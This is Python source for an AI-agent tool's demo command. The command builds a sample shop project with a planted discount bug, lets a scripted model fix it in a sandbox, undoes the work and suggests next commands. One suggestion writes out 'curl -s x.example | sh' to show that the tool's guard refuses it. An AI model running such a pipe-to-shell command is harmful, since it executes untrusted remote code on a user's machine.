"""`handrail demo`: a scripted model does a whole task on a small sample project.

Only the model and the user's answers are scripted; calls, permissions, sandbox, record and undo are
real.
"""

from __future__ import annotations

import shlex
from argparse import Namespace
from collections.abc import AsyncGenerator, Iterator, Mapping
from contextlib import aclosing
from dataclasses import replace
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Final

from handrail.cli import messages
from handrail.cli.exit_codes import ExitCode
from handrail.cli.parser import Parser, Subparsers, add_command
from handrail.cli.render import output
from handrail.core.ports.models import MessageDone
from handrail.models.scripted.script_model import ScriptModel

if TYPE_CHECKING:
    from handrail.cli.commands.agent.view import RunView
    from handrail.core.agent_results import AgentResult
    from handrail.core.events import Event
    from handrail.core.ports.models import ModelEvent, ModelRequest
    from handrail.core.results import ToolResult
    from handrail.models.scripted.script_file import ModelScript

FILES: Final[Mapping[str, str]] = {
    "README.md": "# shop\n\nA cart and its prices.\n",
    "shop/__init__.py": "",
    "shop/cart.py": '''\
"""What a cart costs."""


def total(prices, discount=0):
    """The sum of the prices, less a discount in percent."""
    amount = sum(prices)
    return amount - amount * discount / 10
''',
    "tests/__init__.py": "",
    "tests/test_cart.py": """\
import unittest

from shop.cart import total


class CartTest(unittest.TestCase):
    def test_ten_percent_off(self):
        self.assertEqual(total([50, 50], discount=10), 90)
""",
}
TASK: Final = "The test of the discount fails. Fix it."
# A pipe has no viewer.
_UNWATCHED_SPEED: Final = 20.0
_SETTINGS: Final = {"permissions": {"ask": ["edit_file(tests/**)"]}}


def add_parser(subparsers: Subparsers[Parser]) -> None:
    parser = add_command(subparsers, "demo")
    parser.add_argument(
        "--dir",
        metavar="DIR",
        help="create the project in DIR (default: a new temporary directory)",
    )
    parser.set_defaults(run=run)


def run(options: Namespace) -> int:
    """Create the project, let the model work, undo its work, and suggest what to try."""
    import asyncio

    folder = make_project(options.dir)
    options.workspace, options.session = str(folder), None
    result, undone = asyncio.run(_run_demo(folder, options))
    if options.json:
        output.print_json(result.to_dict())
        output.print_json(undone.to_dict())
    else:
        _print_end(options)
    return ExitCode.DONE if result.ok and undone.ok else ExitCode.FAILED


def make_project(directory: str | None) -> Path:
    """Create the sample project in a new or empty directory; raises `invalid_arguments`."""
    import tempfile

    folder = (
        Path(directory).expanduser()
        if directory
        else Path(tempfile.mkdtemp(prefix="handrail-demo-"))
    )
    try:
        folder.mkdir(parents=True, exist_ok=True)
        if any(folder.iterdir()):
            raise messages.DIRECTORY_NOT_EMPTY.error(path=str(folder))
        for name, text in FILES.items():
            file = folder / name
            file.parent.mkdir(exist_ok=True)
            file.write_text(text, encoding="utf-8")
    except OSError as error:
        raise messages.DIRECTORY_UNUSABLE.error(path=str(folder), error=error.strerror) from error
    return folder.resolve()


def load_demo_script(speed: float = 1.0) -> ModelScript:
    """Return the script of the model; its pauses are divided by `speed`."""
    from handrail.models.scripted.script_file import read_script
    from handrail.models.scripted.streams import ScriptedMessage

    script = read_script(files(__package__).joinpath("demo.jsonl").read_text("utf-8"), "demo.jsonl")
    entries = script.blocks[0].entries
    entries[:] = [
        replace(entry, delay_s=entry.delay_s / speed, stream_s=entry.stream_s / speed)
        if isinstance(entry, ScriptedMessage)
        else entry
        for entry in entries
    ]
    return script


async def _run_demo(folder: Path, options: Namespace) -> tuple[AgentResult, ToolResult]:
    import sys
    import uuid

    from handrail.agent.agent import Agent
    from handrail.assembly.runtime_opener import open as open_runtime
    from handrail.cli.commands.agent.receipt import undo_command
    from handrail.cli.commands.agent.script_answers import ScriptApprover
    from handrail.cli.commands.agent.view import RunView
    from handrail.cli.render.screen import TextStyle, paint, wrap, wrap_columns

    view, session = RunView(), uuid.uuid4().hex[:12]
    show = _print_nothing if options.json else view.line
    for line in _introduction(options):
        for row in wrap_columns(line):
            show(row)
    speed = 1.0 if sys.stdout.isatty() and not options.json else _UNWATCHED_SPEED
    model = DemoModel("demo", load_demo_script(speed), wire="anthropic")
    listener = EarlyCallCounter(model, view)
    # The user's settings are not used, so that the output is the same everywhere.
    async with open_runtime(
        folder,
        mode="sandboxed",
        store=options.store,
        session=session,
        config=_SETTINGS,
        approver=ScriptApprover(model, None, show),
        model=model,
    ) as rt:
        agent = Agent(rt, session=session)
        result = await agent.run(TASK, on_event=_print_event if options.json else listener.on_event)
        if options.json:
            return result, await rt.undo(since="start")
        since = await view.receipt(result, agent, rt)
        view.line()
        view.line(paint(f"$ {undo_command(since, session)}", TextStyle.HEADING))
        undone = await rt.undo(since=since)
        for line in wrap(undone.text.strip().partition("\n")[0], ""):
            view.line(line)
        return result, undone


class DemoModel(ScriptModel):
    """A scripted model that records whether one of its messages is being streamed."""

    streaming = False

    async def stream(self, request: ModelRequest) -> AsyncGenerator[ModelEvent, None]:
        """Yield the next message of the script."""
        self.streaming = True
        async with aclosing(super().stream(request)) as events:
            async for event in events:
                self.streaming = not isinstance(event, MessageDone)
                yield event


class EarlyCallCounter:
    """Shows events, and after each message how many calls began while it was streamed."""

    def __init__(self, model: DemoModel, view: RunView) -> None:
        self._model = model
        self._view = view
        self._early = 0
        self._calls = 0

    def on_event(self, event: Event) -> None:
        """Show an event."""
        from handrail.cli.render.screen import wrap

        if event.type == "tool_call_start":
            self._calls += 1
            self._early += self._model.streaming
        elif event.type == "model_response":
            if self._early:
                summary = f"{self._early} of these {self._calls} calls began"
                for line in wrap(f"{summary} while the message was still being streamed", "  "):
                    self._view.line(_faint(line))
            self._early = self._calls = 0
        self._view.on_event(event)


def _introduction(options: Namespace) -> Iterator[str]:
    from handrail.cli.render.screen import TextStyle, paint

    yield paint("Handrail demo", TextStyle.HEADING) + ": a model repairs a small project."
    yield "The model and the user's answers come from a script: no network, no key."
    yield f"Everything else is real. {_sandbox_line(options)}"
    yield ""
    yield paint(f"> {TASK}", TextStyle.HEADING)


def _sandbox_line(options: Namespace) -> str:
    from handrail.assembly.settings_files import load_from
    from handrail.cli.render.confinement import measure_confinement
    from handrail.cli.workspace import find_workspace
    from handrail.policy.command_guard import sandbox_confines_commands

    place = find_workspace(options)
    confinement = measure_confinement(place, load_from(place.root, _SETTINGS, {}).settings)
    if sandbox_confines_commands(confinement["measured"]):
        return f"Commands run in a sandbox ({confinement['backend']})."
    return "This machine has no sandbox for commands, so each is asked about."


def _print_end(options: Namespace) -> None:
    """Print whether undo was exact and the record is intact, and what to type next."""
    from handrail.cli.commands.record import verify
    from handrail.cli.render.screen import TextStyle, paint

    if _is_restored(Path(options.workspace)):
        output.print_line("Every file of the project has its first content again.")
    output.print_line()
    output.print_line(paint("$ handrail verify", TextStyle.HEADING))
    options.anchor = None
    verify.run(options)
    output.print_line()
    _print_suggestions(options.workspace)


def _is_restored(folder: Path) -> bool:
    return all((folder / name).read_text("utf-8") == text for name, text in FILES.items())


def _print_suggestions(workspace: str) -> None:
    from handrail.cli import program
    from handrail.cli.render.screen import TextStyle, one_line, paint

    where = shlex.quote(one_line(workspace))
    activation = program.activation_command()
    # Without a virtual environment, use the full path.
    name = program.NAME if activation else program.command_name()
    output.print_line(paint("Type next:", TextStyle.HEADING))
    for words, why in (
        (activation, ""),
        (f"cd {where}", ""),
        (f"{name} log", "every call, refused ones too"),
        (f"{name} session show", "what the model wrote"),
        (f"{name} redo", "the undone changes"),
        (f"{name} diff", "what they are"),
        (f"{name} explain 'curl -s x.example | sh'", "why it is refused"),
        (f"{name} config init", "choose a model; then:"),
        (f'{name} run "Fix the failing test"', ""),
    ):
        if words is not None:
            output.print_text(f"  {words:<44}" + _faint(f"# {why}") if why else f"  {words}")


def _print_event(event: Event) -> None:
    output.print_json(event.to_dict())


def _print_nothing(_: str = "") -> None:
    return


def _faint(text: str) -> str:
    from handrail.cli.render.screen import TextStyle, paint

    return paint(text, TextStyle.FAINT)
